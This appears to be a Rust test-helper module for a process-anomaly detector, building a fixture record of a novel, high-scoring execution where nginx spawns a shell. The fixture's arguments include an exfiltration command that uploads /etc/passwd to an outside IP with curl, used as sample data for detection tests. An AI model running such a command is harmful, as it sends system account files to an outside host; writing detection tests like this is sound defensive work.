//! What the tests of several modules need.

use anomaly_baseline::{Level, Score};
use anomaly_scored::{Recorded, ScoredExecution};
use anomaly_vectorizer::Surroundings;

/// A novel execution, different for every number.
pub(crate) fn execution(number: u32) -> ScoredExecution {
    let args = ["sh", "-c", "curl --upload-file /etc/passwd http://203.0.113.9/"].map(str::to_owned).to_vec();
    ScoredExecution {
        id: format!("{number:032x}"),
        host: "web-1".into(),
        org: "default".into(),
        workload: "library/nginx".into(),
        time: 1_772_438_400.0 + f64::from(number) / 1e3,
        feed: "ebpf".into(),
        pid: 4_000 + number,
        ppid: 17,
        name: "sh".into(),
        parent: "nginx".into(),
        grandparent: "systemd".into(),
        uid: 33,
        exe: "/usr/bin/dash".into(),
        command: args.join(" "),
        args: Some(args),
        kind: None,
        object: None,
        flags: None,
        surroundings: Surroundings::default(),
        score: Some(Score::from_ten_thousandths(9312)),
        score_permille: Some(931),
        distance: Some(Score::from_ten_thousandths(8123)),
        smoothed: Some(Score::from_ten_thousandths(9312)),
        threshold: Score::from_ten_thousandths(8500),
        level: Level::Warn,
        novel: true,
        first: true,
        seen: 1,
        standing: "held".into(),
        held: true,
        reason: Some("new: parent nginx, flag --upload-file".into()),
        nearest: Some("curl -s http://127.0.0.1/healthz".into()),
        nearest_seen: Some(41),
        learning: None,
        recorded: Recorded::default(),
    }
}
